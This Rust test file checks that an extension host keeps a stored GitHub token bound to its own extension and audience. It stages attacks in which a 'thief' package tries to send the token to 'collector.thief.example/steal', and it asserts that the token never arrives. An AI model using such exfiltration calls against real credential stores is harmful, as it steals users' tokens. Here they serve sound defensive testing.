//! Accounts bound to audiences and extensions, written as the attacks of
//! issue 13: a third-party package declaring the bundled `github` package's
//! vendor and handle never receives its token; required credentials are
//! checked before the guest starts.

use std::sync::Arc;

use secrecy::SecretString;
use serde_json::json;
use warden_egress::secrets::{
    AccountBinding, AccountKey, AuthReason, Candidate, MemoryStore, SecretError, SecretStore,
};
use warden_egress::testing::{TestCa, TestResponse, TestServer};
use warden_host::{
    CallFailure, Host, HostConfig, Invocation, InvokeOutcome, Location, Origin, PackageSource,
    Replace, Resolution,
};
use warden_registry::now_millis;
use warden_tests::package::github_sender;

const TOKEN: &str = "gho_accountTestToken0123456789abcd";
const HOSTS: [&str; 2] = ["api.github.com", "collector.thief.example"];

/// A host with the bundled packages, and one local HTTPS server playing both
/// api.github.com and the thief's collector (it records every byte received).
struct World {
    host: Host,
    location: Location,
    server: TestServer,
    dir: tempfile::TempDir,
}

async fn world() -> World {
    world_with(Arc::new(MemoryStore::new())).await
}

/// [`world`] on `store`.
async fn world_with(store: Arc<dyn SecretStore>) -> World {
    let ca = TestCa::new();
    let server = TestServer::start(&ca, &HOSTS, |_| TestResponse::json(&json!({})))
        .await
        .unwrap();
    let config = HostConfig {
        egress: warden_egress::testing::config(&ca, &HOSTS.map(|h| (h, 443))),
        ..HostConfig::default()
    };
    let host = Host::builder(config)
        .secret_store(store)
        .resolver(Arc::new(server.resolver(&HOSTS)))
        .build()
        .unwrap();
    let location = host.open_location("p");
    location.install_embedded().unwrap();
    World {
        host,
        location,
        server,
        dir: tempfile::tempdir().unwrap(),
    }
}

/// Call `<id>.send` toward `url` from a product surface, approving once if asked.
async fn send(world: &World, id: &str, url: &str) -> InvokeOutcome {
    let location = &world.location;
    let call = Invocation::new(
        format!("{id}.send"),
        json!({ "handle": "github_runtime_token", "url": url }),
        Origin::Product,
    );
    match location.invoke(call.clone()).await.unwrap() {
        InvokeOutcome::NeedsApproval(request) => {
            world
                .host
                .approvals()
                .resolve(&request.id, Resolution::ApproveOnce, now_millis())
                .await
                .unwrap();
            location.resume(&request.id, call).await.unwrap()
        }
        other => other,
    }
}

fn github_key() -> AccountKey {
    AccountKey::new("github", "github_runtime_token", ["repo"])
}

async fn store_github_token(location: &Location) {
    let account = location
        .connect_account("github", &github_key(), SecretString::from(TOKEN))
        .await
        .unwrap();
    assert_eq!(account.binding.extensions, ["github"]);
    assert_eq!(
        account.binding.audiences[0].to_string(),
        "https://api.github.com:443"
    );
}

fn auth_reason(outcome: &InvokeOutcome, extension: &str) -> AuthReason {
    let InvokeOutcome::Failed(failure @ CallFailure::AuthRequired(_)) = outcome else {
        panic!("expected the host's auth_required refusal, got {outcome:?}")
    };
    assert_eq!(failure.code(), "auth_required");
    let details = failure.auth_details().unwrap();
    assert_eq!(details.vendor.as_deref(), Some("github"));
    assert_eq!(details.scopes, ["repo"]);
    assert_eq!(details.extension, extension);
    details.reason.expect("the host says why")
}

fn assert_no_secret_arrived(server: &TestServer) {
    for request in server.requests() {
        let bytes = format!(
            "{} {:?} {:?}",
            request.target, request.headers, request.body
        );
        assert!(!bytes.contains(TOKEN), "the token arrived: {bytes}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_package_declaring_the_github_vendor_never_receives_the_github_token() {
    let world @ World {
        location,
        server,
        dir,
        ..
    } = &world().await;
    store_github_token(location).await;
    location
        .install(&PackageSource::Dir(github_sender(
            dir.path(),
            "thief",
            "collector.thief.example",
        )))
        .unwrap();

    let outcome = send(world, "thief", "https://collector.thief.example/steal").await;
    assert_no_secret_arrived(server);
    assert_eq!(auth_reason(&outcome, "thief"), AuthReason::Consent);
    assert!(server.requests().is_empty(), "the guest never ran");

    // Even once allowed, the account goes only to its own audience.
    location.allow_account("thief", "github").await.unwrap();
    let outcome = send(world, "thief", "https://collector.thief.example/steal").await;
    assert_eq!(auth_reason(&outcome, "thief"), AuthReason::Audience);
    assert!(server.requests().is_empty());
    assert_no_secret_arrived(server);
}

#[tokio::test(flavor = "multi_thread")]
async fn two_extensions_share_a_vendor_once_the_user_allows_it() {
    let world @ World {
        location,
        server,
        dir,
        ..
    } = &world().await;
    store_github_token(location).await;
    location
        .install(&PackageSource::Dir(github_sender(
            dir.path(),
            "gh_extra",
            "api.github.com",
        )))
        .unwrap();
    let url = "https://api.github.com/extra";
    let outcome = send(world, "gh_extra", url).await;
    assert_eq!(auth_reason(&outcome, "gh_extra"), AuthReason::Consent);
    assert!(server.requests().is_empty());

    let accounts = location.allow_account("gh_extra", "github").await.unwrap();
    assert_eq!(accounts[0].binding.extensions, ["gh_extra", "github"]);
    let outcome = send(world, "gh_extra", url).await;
    let InvokeOutcome::Completed(_) = &outcome else {
        panic!("the allowed extension runs: {outcome:?}")
    };
    let requests = server.requests();
    assert_eq!(requests.len(), 1);
    assert_eq!(requests[0].target, "/extra");
    assert_eq!(
        requests[0].header("authorization"),
        Some(format!("Bearer {TOKEN}").as_str())
    );
}

/// Issue 42: consent was keyed by extension id, so a package installed
/// over the bundled `github` under the same id inherited the user's consent
/// and sent the account's token. Consent is pinned to the package content.
#[tokio::test(flavor = "multi_thread")]
async fn a_package_installed_over_an_allowed_one_must_be_allowed_again() {
    let world @ World {
        location,
        server,
        dir,
        ..
    } = &world().await;
    store_github_token(location).await;
    let replacement = github_sender(dir.path(), "github", "api.github.com");
    location
        .install_with(&PackageSource::Dir(replacement.clone()), Replace::Yes)
        .unwrap();
    let url = "https://api.github.com/replaced";
    let outcome = send(world, "github", url).await;
    assert_eq!(auth_reason(&outcome, "github"), AuthReason::Changed);
    let InvokeOutcome::Failed(failure) = &outcome else {
        unreachable!()
    };
    assert_eq!(
        failure.auth_details().unwrap().connect_command(),
        "warden secret allow github github"
    );
    assert!(server.requests().is_empty(), "the replacement never ran");

    // The user allows the package installed now: it runs with the account.
    let accounts = location.allow_account("github", "github").await.unwrap();
    let digest = &location.package("github").unwrap().digest;
    assert_eq!(accounts[0].binding.pins["github"], *digest);
    let InvokeOutcome::Completed(_) = send(world, "github", url).await else {
        panic!("the allowed replacement runs")
    };
    assert_eq!(
        server.requests()[0].header("authorization"),
        Some(format!("Bearer {TOKEN}").as_str())
    );

    // Other content under the same id again: refused again.
    std::fs::write(replacement.join("prompts/github/send.md"), "Another.\n").unwrap();
    location
        .install_with(&PackageSource::Dir(replacement), Replace::Yes)
        .unwrap();
    let outcome = send(world, "github", url).await;
    assert_eq!(auth_reason(&outcome, "github"), AuthReason::Changed);
    assert_eq!(server.requests().len(), 1, "nothing more was sent");
}

/// A store that counts how often it is read.
#[derive(Debug, Default)]
struct Counting {
    inner: MemoryStore,
    reads: std::sync::atomic::AtomicUsize,
}

impl Counting {
    fn read(&self) {
        self.reads.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
    }

    fn reads(&self) -> usize {
        self.reads.load(std::sync::atomic::Ordering::SeqCst)
    }
}

#[async_trait::async_trait]
impl SecretStore for Counting {
    async fn get(&self, key: &AccountKey) -> Result<Option<SecretString>, SecretError> {
        self.read();
        self.inner.get(key).await
    }
    async fn put(&self, key: &AccountKey, value: SecretString) -> Result<(), SecretError> {
        self.inner.put(key, value).await
    }
    async fn delete(&self, key: &AccountKey) -> Result<bool, SecretError> {
        self.inner.delete(key).await
    }
    async fn list(&self) -> Result<Vec<AccountKey>, SecretError> {
        self.read();
        self.inner.list().await
    }
    async fn binding(&self, key: &AccountKey) -> Result<Option<AccountBinding>, SecretError> {
        self.read();
        self.inner.binding(key).await
    }
    async fn set_binding(&self, key: &AccountKey, b: &AccountBinding) -> Result<(), SecretError> {
        self.inner.set_binding(key, b).await
    }
    async fn candidates(&self, vendor: &str, handle: &str) -> Result<Vec<Candidate>, SecretError> {
        self.read();
        self.inner.candidates(vendor, handle).await
    }
}

/// Issue 43: a credentialed call read the store five times (the refresh
/// check listed the accounts and read each binding and grant, then staging
/// read the value and binding again); it now reads it once.
#[tokio::test(flavor = "multi_thread")]
async fn a_credentialed_call_reads_the_secret_store_once() {
    let store = Arc::new(Counting::default());
    let world @ World { location, dir, .. } = &world_with(store.clone()).await;
    store_github_token(location).await;
    let sender = github_sender(dir.path(), "gh_extra", "api.github.com");
    location.install(&PackageSource::Dir(sender)).unwrap();
    location.allow_account("gh_extra", "github").await.unwrap();
    let url = "https://api.github.com/once";
    for call in 1..=2 {
        let before = store.reads();
        let InvokeOutcome::Completed(_) = send(world, "gh_extra", url).await else {
            panic!("the allowed extension runs")
        };
        assert_eq!(
            store.reads() - before,
            1,
            "call {call}: one read of the store"
        );
    }
    assert_eq!(world.server.requests().len(), 2);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_missing_required_credential_stops_the_call_before_the_guest_starts() {
    let world @ World {
        location,
        server,
        dir,
        ..
    } = &world().await;
    location
        .install(&PackageSource::Dir(github_sender(
            dir.path(),
            "needs_token",
            "api.github.com",
        )))
        .unwrap();
    let outcome = send(world, "needs_token", "https://api.github.com/x").await;
    assert_eq!(auth_reason(&outcome, "needs_token"), AuthReason::Missing);
    assert!(server.requests().is_empty());
    let InvokeOutcome::Failed(failure) = &outcome else {
        unreachable!()
    };
    assert!(failure.message().contains("needs_token"), "{failure}");
}

#[tokio::test(flavor = "multi_thread")]
async fn connecting_an_account_needs_an_extension_that_declares_it() {
    let World { location, .. } = &world().await;
    let err = location
        .connect_account("echo", &github_key(), SecretString::from(TOKEN))
        .await
        .unwrap_err();
    assert!(err.to_string().contains("declares no credential"), "{err}");
    let err = location
        .allow_account("nobody", "github")
        .await
        .unwrap_err();
    assert!(err.to_string().contains("no extension `nobody`"), "{err}");
    let err = location.allow_account("echo", "github").await.unwrap_err();
    assert!(
        err.to_string().contains("no bound `github` account"),
        "{err}"
    );
}
